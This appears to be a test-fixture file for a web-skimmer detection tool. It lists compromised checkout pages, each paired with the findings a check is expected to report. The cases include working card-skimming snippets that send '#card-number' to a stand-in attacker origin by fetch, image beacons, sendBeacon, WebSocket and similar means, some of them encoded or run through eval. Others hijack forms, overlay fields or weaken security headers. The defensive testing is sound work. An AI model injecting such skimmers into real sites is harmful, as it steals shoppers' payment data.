// SPDX-License-Identifier: Apache-2.0
// What attackers do to the pages, and what a check has to say of it: these kinds of findings, and no others.
import type { Case } from './bases.ts';
import { APP, FIELDS, framed, guarded, inline, ownForm, POLICY, skimmer, WIDGET } from './pages.ts';
import { body, STOLEN, steal } from './programs.ts';

/** At least one of each way that is known from skimmers in the wild. */
export const COMPROMISED: readonly Case[] = [
  [
    'an injected inline script that sends by fetch',
    'own',
    steal((evil) => `fetch('${evil}/c',{method:'POST',mode:'no-cors',body:n})`),
    [...STOLEN, 'listener'],
  ],
  [
    'an image in base64',
    'own',
    steal((evil) => `new Image().src='${evil}/c?d='+btoa(n)`),
    [...STOLEN, 'listener'],
  ],
  [
    'a beacon of a Blob',
    'own',
    steal((evil) => `navigator.sendBeacon('${evil}/c',new Blob([n]))`),
    [...STOLEN, 'listener'],
  ],
  [
    'XMLHttpRequest, digits reversed',
    'own',
    steal(
      (evil) =>
        `var x=new XMLHttpRequest();x.open('POST','${evil}/c');x.send(n.split('').reverse().join(''))`,
    ),
    [...STOLEN, 'listener'],
  ],
  [
    'a WebSocket',
    'own',
    steal((evil) => `var w=new WebSocket('${evil.replace('http', 'ws')}/c');w.onopen=()=>w.send(n)`),
    [...STOLEN.filter((kind) => kind !== 'data-leaves'), 'listener'],
  ],
  [
    'bytes under one key',
    'own',
    steal(
      (evil) =>
        `fetch('${evil}/c',{method:'POST',mode:'no-cors',body:Uint8Array.from(n,c=>c.charCodeAt(0)^90)})`,
    ),
    [...STOLEN, 'listener'],
  ],
  [
    'hex in a style sheet address',
    'own',
    steal(
      (evil) =>
        `var l=document.createElement('link');l.rel='stylesheet';l.href='${evil}/c?'+[...n].map(c=>c.charCodeAt(0).toString(16)).join('');document.head.append(l)`,
    ),
    [...STOLEN, 'listener'],
  ],
  [
    'a skimmer that waits five minutes',
    'own',
    steal((evil) => `new Image().src='${evil}/c?'+n`, 'setTimeout(take,300000)'),
    STOLEN,
  ],
  [
    'a skimmer that looks every second',
    'own',
    steal((evil) => `new Image().src='${evil}/c?'+n`, 'setInterval(take,1000)'),
    STOLEN,
  ],
  [
    'a timer of text',
    'own',
    (sites) =>
      body(
        `setTimeout("new Image().src='${sites.evil.origin}/c?'+document.querySelector('#card-number').value",400000)`,
      )(sites),
    STOLEN,
  ],
  [
    'keys heard from the window',
    'own',
    steal(
      (evil) => `fetch('${evil}/c',{method:'POST',mode:'no-cors',body:n})`,
      "addEventListener('keyup',take)",
    ),
    [...STOLEN, 'listener'],
  ],
  [
    'a handler in an attribute',
    'own',
    (sites) => ({
      shop: {
        '/checkout': ownForm(sites, {
          form: `<form action="/pay" method="post">${FIELDS.replace('id="card-number"', `id="card-number" onchange="new Image().src='${sites.evil.origin}/c?'+this.value"`)}<button>Pay</button></form>`,
        }),
      },
    }),
    ['data-leaves', 'listener', 'new-destination', 'new-script'],
  ],
  [
    'text that is decoded and run',
    'own',
    (sites) =>
      body(
        `eval(atob("${Buffer.from(skimmer(`fetch('${sites.evil.origin}/c?'+n,{mode:'no-cors'})`)).toString('base64')}"))`,
      )(sites),
    ['data-leaves', 'listener', 'new-destination', 'new-script', 'obfuscated', 'reads-and-sends'],
  ],
  [
    'a script of the attacker',
    'own',
    (sites) => ({
      shop: { '/checkout': ownForm(sites, { head: `<script src="${sites.evil.origin}/c.js"></script>` }) },
      evil: { '/c.js': 'window.c=1' },
    }),
    ['new-destination', 'new-script', 'no-integrity'],
  ],
  [
    'a module of the attacker',
    'own',
    (sites) => ({
      shop: {
        '/checkout': ownForm(sites, {
          head: `<script type="module">import '${sites.evil.origin}/m.js'</script>`,
        }),
      },
      evil: { '/m.js': 'window.c=1' },
    }),
    ['new-destination', 'new-script', 'no-integrity'],
  ],
  [
    'a script that document.write puts in',
    'own',
    (sites) => ({
      ...body(`document.write('<script src="${sites.evil.origin}/w.js"></scr'+'ipt>')`)(sites),
      evil: { '/w.js': 'window.w=1' },
    }),
    ['new-destination', 'new-script', 'no-integrity'],
  ],
  [
    'a worker',
    'own',
    (sites) => ({
      shop: {
        '/checkout': ownForm(sites, { body: inline("new Worker('/w.js')") }),
        '/w.js': 'postMessage(1)',
      },
    }),
    ['new-script'],
  ],
  [
    'the own bundle with a skimmer at its end',
    'own',
    ({ evil }) => ({
      shop: { '/app.js': `${APP}\n${skimmer(`fetch('${evil.origin}/c?'+n,{mode:'no-cors'})`)}` },
    }),
    ['changed-script', 'data-leaves', 'new-destination', 'reads-and-sends'],
  ],
  [
    'the script of a supplier without its integrity',
    'own',
    (sites) => ({
      shop: {
        '/checkout': ownForm(sites, { widget: `<script src="${sites.cdn.origin}/widget.js"></script>` }),
      },
    }),
    ['integrity-dropped'],
  ],
  [
    'the script of a supplier, changed',
    'own',
    (sites) => ({
      shop: {
        '/checkout': ownForm(sites, { widget: `<script src="${sites.cdn.origin}/widget.js"></script>` }),
      },
      cdn: { '/widget.js': `${WIDGET}window.more=1` },
    }),
    ['changed-script', 'no-integrity'],
  ],
  [
    'the form sent elsewhere',
    'own',
    (sites) => ({
      shop: {
        '/checkout': ownForm(sites, {
          form: `<form action="${sites.evil.origin}/c" method="post">${FIELDS}<button>Pay</button></form>`,
        }),
      },
    }),
    ['form-target'],
  ],
  [
    'a button that sends elsewhere',
    'own',
    (sites) => ({
      shop: {
        '/checkout': ownForm(sites, {
          form: `<form action="/pay" method="post">${FIELDS}<button formaction="${sites.evil.origin}/c">Pay</button></form>`,
        }),
      },
    }),
    ['form-target'],
  ],
  [
    'a target that a script swaps',
    'own',
    (sites) => body(`document.forms[0].action='${sites.evil.origin}/c'`)(sites),
    ['form-target', 'new-script'],
  ],
  [
    'a base address',
    'own',
    (sites) => ({
      shop: { '/checkout': ownForm(sites, { head: `<base href="${sites.evil.origin}/">`, app: '' }) },
    }),
    ['form-target', 'script-gone'],
  ],
  [
    'a form over the form',
    'own',
    (sites) => ({
      shop: {
        '/checkout': ownForm(sites, {
          body: `<div id="pop" style="position:fixed;inset:0;background:#fff"><input name="cc_number"></div>`,
        }),
      },
    }),
    ['new-field', 'overlay'],
  ],
  [
    'a field in a shadow root',
    'own',
    body(
      `var h=document.createElement('div');document.body.append(h);h.attachShadow({mode:'open'}).innerHTML='<input autocomplete="cc-number">'`,
    ),
    ['new-field', 'new-script'],
  ],
  [
    'a frame without an address',
    'own',
    (sites) => ({
      shop: {
        '/checkout': ownForm(sites, {
          body: `<iframe srcdoc="<script>parent.stolen=1</script>" title="x"></iframe>`,
        }),
      },
    }),
    ['new-frame', 'new-script'],
  ],
  [
    'a hidden frame',
    'own',
    (sites) => ({
      shop: {
        '/checkout': ownForm(sites, {
          body: `<iframe src="${sites.evil.origin}/c" width="1" height="1" title="x"></iframe>`,
        }),
      },
    }),
    ['new-destination', 'new-frame'],
  ],
  [
    'a style sheet of others',
    'own',
    (sites) => ({
      shop: {
        '/checkout': ownForm(sites, { head: `<link rel="stylesheet" href="${sites.evil.origin}/s.css">` }),
      },
      evil: { '/s.css': 'p{}' },
    }),
    ['new-destination'],
  ],
  [
    'a host that looks like another',
    'own',
    (sites) => ({
      shop: {
        '/checkout': ownForm(sites, { head: '<script src="http://google-anaiytics.com/ga.js"></script>' }),
      },
    }),
    ['look-alike', 'new-destination'],
  ],
  [
    'a layer over the frame of the provider',
    'frame',
    (sites) => ({
      shop: {
        '/checkout': framed(
          sites,
          '<div id="layer" style="position:absolute;left:0;top:60px;width:500px;height:200px;z-index:9"></div>',
        ),
      },
    }),
    ['overlay'],
  ],
  [
    'a form in place of the frame',
    'frame',
    (sites) => ({
      shop: {
        '/checkout': framed(sites).replace(
          /<iframe[\s\S]*<\/iframe>/,
          `<form action="${sites.evil.origin}/c">${FIELDS}</form>`,
        ),
      },
    }),
    ['form-target', 'frame-gone', 'new-field'],
  ],
  [
    'the frame of another',
    'frame',
    (sites) => ({
      shop: { '/checkout': framed(sites).replaceAll(sites.provider.origin, sites.evil.origin) },
      evil: { '/card': FIELDS },
    }),
    ['frame-gone', 'new-destination', 'new-frame'],
  ],
  [
    'a container that loads a skimmer',
    'tag',
    ({ evil }) => ({
      cdn: {
        '/container.js': `window.tags=[];var s=document.createElement('script');s.src='${evil.origin}/t.js';document.head.append(s);`,
      },
      evil: {
        '/t.js': skimmer(`fetch('${evil.origin}/c?'+n,{mode:'no-cors'})`, "addEventListener('change',take)"),
      },
    }),
    ['data-leaves', 'listener', 'new-destination', 'new-script', 'no-integrity'],
  ],
  [
    'a container that begins to listen',
    'tag',
    () => ({ cdn: { '/container.js': "window.tags=[];addEventListener('input',e=>tags.push(1));" } }),
    ['listener'],
  ],
  [
    'a container that sends the number home',
    'tag',
    ({ cdn }) => ({
      cdn: {
        '/container.js': `setTimeout(()=>fetch('${cdn.origin}/logo.gif?'+document.querySelector('#card-number').value,{mode:'no-cors'}),60000)`,
      },
    }),
    ['data-leaves'],
  ],
  [
    'a header that is gone',
    'policy',
    (sites) => {
      const page = guarded(sites, 'n1');
      const { 'x-frame-options': _, ...headers } = page.headers ?? {};
      return { shop: { '/checkout': { ...page, headers } } };
    },
    ['header-gone'],
  ],
  [
    'a policy that is gone',
    'policy',
    (sites) => {
      const page = guarded(sites, 'n1');
      const { 'content-security-policy': _, ...headers } = page.headers ?? {};
      return { shop: { '/checkout': { ...page, headers } } };
    },
    ['header-gone', 'policy-absent', 'policy-weaker'],
  ],
  [
    'a policy that lets data out',
    'policy',
    (sites) => ({
      shop: {
        '/checkout': guarded(sites, 'n1', (cdn) =>
          POLICY(cdn).replace("connect-src 'self'", "connect-src 'self' https:"),
        ),
      },
    }),
    ['header-changed', 'policy-weaker', 'policy-wide'],
  ],
];
